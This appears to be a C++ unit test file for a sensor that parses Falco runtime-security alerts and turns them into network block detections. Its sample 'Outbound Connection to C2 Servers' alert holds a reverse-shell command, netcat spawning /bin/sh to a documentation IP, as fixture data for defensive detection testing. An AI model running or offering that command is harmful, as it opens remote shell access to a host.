#include "sensor/detectors/falco.hpp"

#include <gtest/gtest.h>

namespace meshd::sensor {
namespace {

Prefix P(std::string_view s) {
  return *Prefix::parse(s);
}

// As falcosidekick's webhook output posts it for Falco's "Outbound Connection to C2
// Servers" rule (fields from the rule's output, plus falcosidekick's uuid/hostname/tags).
constexpr const char* kOutboundC2 = R"json({
  "uuid": "7b3c5a3e-6d2b-4d7e-9f55-1d5c8d0c2a11",
  "output": "12:00:00.123456789: Critical Outbound connection to C2 server (command=nc -e /bin/sh 203.0.113.7 4444 connection=10.244.1.17:43122->203.0.113.7:4444 user=root user_loginuid=-1 container_id=3f2a1b4c5d6e image=docker.io/library/alpine)",
  "priority": "Critical",
  "rule": "Outbound Connection to C2 Servers",
  "time": "2019-05-17T15:31:56.746609046Z",
  "source": "syscall",
  "hostname": "node-1",
  "tags": ["host", "container", "network", "mitre_command_and_control"],
  "output_fields": {
    "container.id": "3f2a1b4c5d6e",
    "container.image.repository": "docker.io/library/alpine",
    "evt.time": 1558107116746609046,
    "evt.type": "connect",
    "fd.cip": "10.244.1.17",
    "fd.cport": 43122,
    "fd.name": "10.244.1.17:43122->203.0.113.7:4444",
    "fd.sip": "203.0.113.7",
    "fd.sport": 4444,
    "k8s.ns.name": "shop",
    "k8s.pod.name": "web-7d9c8b6f5-x2x9q",
    "proc.cmdline": "nc -e /bin/sh 203.0.113.7 4444",
    "proc.name": "nc",
    "proc.pid": 31337,
    "user.loginuid": -1,
    "user.name": "root"
  }
})json";

// Falco's "Terminal shell in container": no network fields at all.
constexpr const char* kTerminalShell = R"json({
  "output": "16:31:56.746609046: Notice A shell was spawned in a container with an attached terminal (user=root user_loginuid=-1 k8s.ns=default k8s.pod=falco-2kv4q container=5a9a7b3c2d1e shell=sh parent=runc cmdline=sh terminal=34816 container_id=5a9a7b3c2d1e image=falcosecurity/falco)",
  "priority": "Notice",
  "rule": "Terminal shell in container",
  "time": "2019-05-17T15:31:56.746609046Z",
  "output_fields": {
    "container.id": "5a9a7b3c2d1e",
    "container.image.repository": "falcosecurity/falco",
    "evt.time": 1558107116746609046,
    "fd.name": null,
    "k8s.ns.name": "default",
    "k8s.pod.name": "falco-2kv4q",
    "proc.cmdline": "sh",
    "proc.name": "sh",
    "proc.tty": 34816,
    "user.loginuid": -1,
    "user.name": "root"
  }
})json";

TEST(FalcoParse, OutboundC2AlertMapsToEgressBlockOfTheServer) {
  auto a = parse_falco_alert(kOutboundC2);
  ASSERT_TRUE(a) << a.error().message;
  EXPECT_EQ(a->rule, "Outbound Connection to C2 Servers");
  EXPECT_EQ(a->severity, Severity::critical);
  EXPECT_EQ(a->time, 1558107116746);
  EXPECT_EQ(a->hostname, "node-1");
  EXPECT_EQ(a->tags.size(), 4u);
  ASSERT_TRUE(a->remote);
  EXPECT_EQ(*a->remote, P("203.0.113.7"));
  EXPECT_EQ(a->remote_port, 4444);
  EXPECT_EQ(a->direction, Direction::egress);
  EXPECT_EQ(a->address_field, "fd.sip");
  EXPECT_EQ(a->identity.container_id, "3f2a1b4c5d6e");
  EXPECT_EQ(a->identity.pod_name, "web-7d9c8b6f5-x2x9q");
  EXPECT_EQ(a->identity.pod_namespace, "shop");
  EXPECT_EQ(a->process, "nc");
  EXPECT_EQ(a->pid, 31337u);
  EXPECT_TRUE(a->warnings.empty());

  auto d = falco_to_detection(*a, 5);
  ASSERT_TRUE(d);
  EXPECT_EQ(d->prefix, P("203.0.113.7"));
  EXPECT_EQ(d->direction, Direction::egress);
  EXPECT_EQ(d->detector, "falco");
  EXPECT_EQ(d->severity, Severity::critical);
  EXPECT_DOUBLE_EQ(d->confidence, 0.9);
  EXPECT_EQ(d->at, 1558107116746);
  EXPECT_EQ(d->identity.pod_namespace, "shop");
  EXPECT_NE(d->reason.find("Outbound Connection to C2 Servers"), std::string::npos);
  EXPECT_NE(d->reason.find("203.0.113.7:4444"), std::string::npos) << d->reason;
}

TEST(FalcoParse, AlertWithoutNetworkFieldsIsAcceptedButNotMapped) {
  auto a = parse_falco_alert(kTerminalShell);
  ASSERT_TRUE(a) << a.error().message;
  EXPECT_EQ(a->severity, Severity::low);
  EXPECT_FALSE(a->remote);
  EXPECT_EQ(a->identity.pod_name, "falco-2kv4q");
  EXPECT_FALSE(falco_to_detection(*a, 0));
}

TEST(FalcoParse, RemoteIpDecidesDirection) {
  // Inbound: the remote is the client.
  auto in = parse_falco_alert(R"({"rule":"Unexpected inbound connection","priority":"Warning",
    "output":"x","output_fields":{"fd.rip":"198.51.100.9","fd.cip":"198.51.100.9",
    "fd.sip":"10.0.0.5","fd.rport":51000,"evt.type":"accept"}})");
  ASSERT_TRUE(in) << in.error().message;
  EXPECT_EQ(*in->remote, P("198.51.100.9"));
  EXPECT_EQ(in->direction, Direction::ingress);
  EXPECT_EQ(in->address_field, "fd.rip");
  EXPECT_EQ(in->remote_port, 51000);
  EXPECT_EQ(in->severity, Severity::medium);

  // fd.rip alone: the side is unknown, so both directions.
  auto only = parse_falco_alert(R"({"rule":"r","priority":"Error","output":"x",
    "output_fields":{"fd.rip":"2001:db8::7"}})");
  ASSERT_TRUE(only);
  EXPECT_EQ(*only->remote, P("2001:db8::7"));
  EXPECT_EQ(only->direction, Direction::both);
  EXPECT_EQ(only->severity, Severity::high);

  // fd.lip equal to fd.sip: we are the server, the client is the remote.
  auto lip = parse_falco_alert(R"({"rule":"r","priority":"Error","output":"x",
    "output_fields":{"fd.lip":"10.0.0.5","fd.sip":"10.0.0.5","fd.cip":"192.0.2.50","fd.cport":1234}})");
  ASSERT_TRUE(lip);
  EXPECT_EQ(*lip->remote, P("192.0.2.50"));
  EXPECT_EQ(lip->direction, Direction::ingress);
  EXPECT_EQ(lip->remote_port, 1234);
}

TEST(FalcoParse, ConnectionTupleInFdNameIsUsedWhenIpFieldsAreAbsent) {
  auto v4 = parse_falco_alert(R"({"rule":"r","priority":"Critical","output":"x",
    "output_fields":{"fd.name":"10.1.1.1:40000->198.51.100.23:6667","fd.sip":"<NA>"}})");
  ASSERT_TRUE(v4);
  ASSERT_TRUE(v4->remote);
  EXPECT_EQ(*v4->remote, P("198.51.100.23"));
  EXPECT_EQ(v4->remote_port, 6667);
  EXPECT_EQ(v4->direction, Direction::egress);
  EXPECT_EQ(v4->address_field, "fd.name");

  auto v6 = parse_falco_alert(R"({"rule":"r","priority":"Critical","output":"x",
    "output_fields":{"fd.name":"fd00::5:40000->2001:db8::23:443"}})");
  ASSERT_TRUE(v6);
  ASSERT_TRUE(v6->remote);
  EXPECT_EQ(*v6->remote, P("2001:db8::23"));
  EXPECT_EQ(v6->remote_port, 443);

  auto bracketed = parse_falco_alert(R"({"rule":"r","priority":"Critical","output":"x",
    "output_fields":{"fd.name":"[fd00::5]:40000->[2001:db8::24]:443"}})");
  ASSERT_TRUE(bracketed);
  ASSERT_TRUE(bracketed->remote);
  EXPECT_EQ(*bracketed->remote, P("2001:db8::24"));
}

TEST(FalcoParse, UnusableAddressesAreIgnoredWithAWarning) {
  auto a = parse_falco_alert(R"({"rule":"r","priority":"Critical","output":"x",
    "output_fields":{"fd.sip":"not-an-ip","fd.rip":"0.0.0.0","fd.cip":"<NA>"}})");
  ASSERT_TRUE(a) << a.error().message;
  EXPECT_FALSE(a->remote);
  ASSERT_EQ(a->warnings.size(), 2u);
  EXPECT_EQ(a->warnings[1],
            "output_fields.fd.sip: 'not-an-ip' is not a usable IP address, ignored");
  // IPv4-mapped IPv6 is reported as IPv4.
  auto m = parse_falco_alert(R"({"rule":"r","priority":"Critical","output":"x",
    "output_fields":{"fd.rip":"::ffff:203.0.113.9"}})");
  ASSERT_TRUE(m);
  EXPECT_EQ(*m->remote, P("203.0.113.9"));
}

TEST(FalcoParse, PriorityMapping) {
  EXPECT_EQ(falco_priority_to_severity("Emergency"), Severity::critical);
  EXPECT_EQ(falco_priority_to_severity("ALERT"), Severity::critical);
  EXPECT_EQ(falco_priority_to_severity("critical"), Severity::critical);
  EXPECT_EQ(falco_priority_to_severity("Error"), Severity::high);
  EXPECT_EQ(falco_priority_to_severity("Warning"), Severity::medium);
  EXPECT_EQ(falco_priority_to_severity("Notice"), Severity::low);
  EXPECT_EQ(falco_priority_to_severity("Informational"), Severity::info);
  EXPECT_EQ(falco_priority_to_severity("Debug"), Severity::info);
  EXPECT_FALSE(falco_priority_to_severity("Severe"));
  // Info alerts are not severe enough to become detections by default.
  auto a = parse_falco_alert(R"({"rule":"r","priority":"Informational","output":"x",
    "output_fields":{"fd.sip":"203.0.113.1"}})");
  ASSERT_TRUE(a);
  EXPECT_TRUE(a->remote);
  EXPECT_FALSE(falco_to_detection(*a, 0));
  FalcoMappingOptions all;
  all.min_severity = Severity::info;
  EXPECT_TRUE(falco_to_detection(*a, 0, all));
}

TEST(FalcoParse, BadInputNamesTheFieldAndReason) {
  auto expect_error = [](std::string_view body, std::string_view code, std::string_view needle) {
    auto r = parse_falco_alert(body);
    ASSERT_FALSE(r) << body;
    EXPECT_EQ(r.error().code, code) << r.error().message;
    EXPECT_NE(r.error().message.find(needle), std::string::npos) << r.error().message;
  };
  expect_error("{not json", "bad_json", "not valid JSON");
  expect_error("[1,2]", "bad_json", "must be a JSON object");
  expect_error(R"({"priority":"Critical","output":"x"})", "missing_field", "'rule' is missing");
  expect_error(R"({"rule":5,"priority":"Critical","output":"x"})", "bad_field",
               "'rule' must be a string");
  expect_error(R"({"rule":"r","priority":"Severe","output":"x"})", "bad_field",
               "'Severe' is not a Falco priority");
  expect_error(R"({"rule":"r","priority":"Critical","output":"x","time":"yesterday"})", "bad_field",
               "field 'time'");
  expect_error(R"({"rule":"r","priority":"Critical","output":"x","output_fields":[1]})",
               "bad_field", "'output_fields' must be an object");
}

// Found by fuzz_falco_alert (corpus file crash-priority-newline): an error echoed the alert's
// priority verbatim, so a JSON "\n" in it put a second line into the daemon's log.
TEST(FalcoParse, ErrorsQuoteUntrustedValuesOnOneLine) {
  for (const char* body :
       {R"({"rule":"r","priority":"No\ntice\r\u0000x","output":"x"})",
        R"({"rule":"r","priority":"Critical","output":"x","time":"2019-05-17\nT15:31:56Z"})"}) {
    auto r = parse_falco_alert(body);
    ASSERT_FALSE(r) << body;
    EXPECT_EQ(r.error().code, "bad_field");
    EXPECT_EQ(r.error().message.find_first_of(std::string("\n\r\0", 3)), std::string::npos)
        << r.error().message;
    EXPECT_NE(r.error().message.find("\\x0a"), std::string::npos) << r.error().message;
  }
  auto r = parse_falco_alert(R"({"rule":"r","priority":")" + std::string(5000, 'A') +
                             R"(","output":"x"})");
  ASSERT_FALSE(r);
  EXPECT_LT(r.error().message.size(), 200u) << "a long value is cut, not echoed whole";
}

TEST(FalcoParse, Rfc3339Times) {
  EXPECT_EQ(parse_rfc3339_ms("2019-05-17T15:31:56.746609046Z").value(), 1558107116746);
  EXPECT_EQ(parse_rfc3339_ms("2024-02-29T23:59:59Z").value(), 1709251199000);
  EXPECT_EQ(parse_rfc3339_ms("2024-03-01T01:59:59+02:00").value(), 1709251199000);
  EXPECT_EQ(parse_rfc3339_ms("1969-12-31T23:00:00Z").value(), -3600000);
  EXPECT_EQ(parse_rfc3339_ms("2019-05-17T15:31:56.7Z").value(), 1558107116700);
  EXPECT_FALSE(parse_rfc3339_ms("2019-05-17T15:31:56"));
  EXPECT_FALSE(parse_rfc3339_ms("2019-13-17T15:31:56Z"));
  EXPECT_FALSE(parse_rfc3339_ms("2019-05-17T15:31:56.Z"));
  EXPECT_FALSE(parse_rfc3339_ms("2019-05-17T15:31:56Zjunk"));
}

}  // namespace
}  // namespace meshd::sensor
